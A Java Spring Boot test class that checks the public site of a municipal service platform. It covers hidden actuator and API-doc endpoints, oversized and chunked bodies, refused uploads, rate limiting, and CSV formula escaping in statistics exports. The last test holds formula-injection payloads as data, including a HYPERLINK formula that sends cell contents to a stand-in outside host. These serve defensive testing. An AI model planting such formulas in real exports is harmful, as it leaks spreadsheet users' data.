package jp.madoguchi.platform.web;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

import jp.madoguchi.prefiling.codec.PayloadCodec;
import jp.madoguchi.statistics.export.Exports;
import jp.madoguchi.statistics.export.Table;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.http.MediaType;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;
import org.springframework.test.web.servlet.request.RequestPostProcessor;

import static jp.madoguchi.support.ClientAddress.from;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/**
 * Attacks on the public site (issue 20, "Public site"), in a public-role process: looking
 * for metrics and the API description, a 10 MB body, a file upload, a body of unknown
 * length, a burst of requests; and a formula smuggled into a statistics export.
 */
@SpringBootTest(properties = { "madoguchi.role=public", "madoguchi.limits.public-requests=5" })
@AutoConfigureMockMvc
class PublicSiteSecurityTests {

	@DynamicPropertySource
	static void counterPublicKey(DynamicPropertyRegistry registry) {
		registry.add("madoguchi.prefiling.public-key",
				() -> Base64.getEncoder().encodeToString(PayloadCodec.generateKeyPair().getPublic().getEncoded()));
	}

	@Autowired
	MockMvc mvc;

	@Test
	void thePublicRoleShowsTheHealthProbeAndNothingElseOfItsInsides() throws Exception {
		mvc.perform(get("/actuator/health").with(from("198.51.100.1")))
			.andExpect(status().isOk())
			.andExpect(content().json("{\"status\":\"UP\"}"));
		List<String> hidden = List.of("/actuator/prometheus", "/actuator/info", "/actuator/metrics", "/v3/api-docs",
				"/swagger-ui.html", "/swagger-ui/index.html");
		for (int i = 0; i < hidden.size(); i++) {
			// one address each, to stay under this test's small rate limit
			int status = mvc.perform(get(hidden.get(i)).with(from("198.51.100." + (20 + i))))
				.andReturn()
				.getResponse()
				.getStatus();
			assertThat(status).as(hidden.get(i)).isEqualTo(404);
		}
	}

	@Test
	void aTenMegabyteJsonBodyIsRefusedBeforeItIsRead() throws Exception {
		byte[] body = new byte[10 * 1024 * 1024];
		java.util.Arrays.fill(body, (byte) ' ');
		body[0] = '{';
		body[body.length - 1] = '}';
		MvcResult result = mvc
			.perform(post("/public/api/v1/prefilings").with(from("198.51.100.2"))
				.contentType(MediaType.APPLICATION_JSON)
				.content(body))
			.andExpect(status().isContentTooLarge())
			.andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
			.andExpect(jsonPath("$.code").value("REQUEST_TOO_LARGE"))
			.andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString("大きすぎます")))
			.andReturn();
		assertThat(result.getRequest().getInputStream().available()).as("bytes left unread").isEqualTo(body.length);
	}

	@Test
	void thePublicSiteTakesNoFilesAndNoBodyOfUnknownLength() throws Exception {
		mvc.perform(multipart("/public/api/v1/prefilings")
			.file(new MockMultipartFile("file", "big.csv", "text/csv", "a,b".getBytes(StandardCharsets.UTF_8)))
			.with(from("198.51.100.3")))
			.andExpect(status().isUnsupportedMediaType())
			.andExpect(jsonPath("$.code").value("MULTIPART_NOT_ALLOWED"))
			.andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString("ファイル")));
		mvc.perform(post("/public/api/v1/prefilings").with(from("198.51.100.3"))
			.contentType(MediaType.APPLICATION_JSON)
			.header("Transfer-Encoding", "chunked"))
			.andExpect(status().isLengthRequired())
			.andExpect(jsonPath("$.code").value("LENGTH_REQUIRED"));
	}

	@Test
	void aBurstOverTheRateLimitIsRefusedWithRetryAfter() throws Exception {
		for (int i = 0; i < 5; i++) {
			mvc.perform(get("/public/prefiling").with(from("198.51.100.4"))).andExpect(status().isOk());
		}
		mvc.perform(get("/public/prefiling").with(from("198.51.100.4")))
			.andExpect(status().isTooManyRequests())
			.andExpect(header().string("Retry-After", org.hamcrest.Matchers.matchesPattern("[1-9][0-9]*")))
			.andExpect(jsonPath("$.code").value("RATE_LIMITED"))
			.andExpect(jsonPath("$.detail").value(org.hamcrest.Matchers.containsString("秒ほど待って")));
		// Style sheets and scripts do not count; other addresses are not affected.
		mvc.perform(get("/css/madoguchi.css").with(from("198.51.100.4"))).andExpect(status().isOk());
		mvc.perform(get("/public/prefiling").with(from("198.51.100.5"))).andExpect(status().isOk());
	}

	@Test
	void statisticsExportsNeutraliseFormulasAsTheAuditCsvDoes() throws Exception {
		Table table = new Table("t", List.of("窓口", "件数"), List.of(List.of("=HYPERLINK(\"http://example.com/?\"&A1)", 3),
				List.of("@SUM(A1:A9)", -2), List.of("+81-154", 1), List.of("住民課", 4)));
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		Exports.csv(table, out);
		String csv = out.toString(StandardCharsets.UTF_8);
		assertThat(csv).contains("\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1)\",3\r\n", "'@SUM(A1:A9),-2\r\n",
				"'+81-154,1\r\n", "住民課,4\r\n");
	}

}
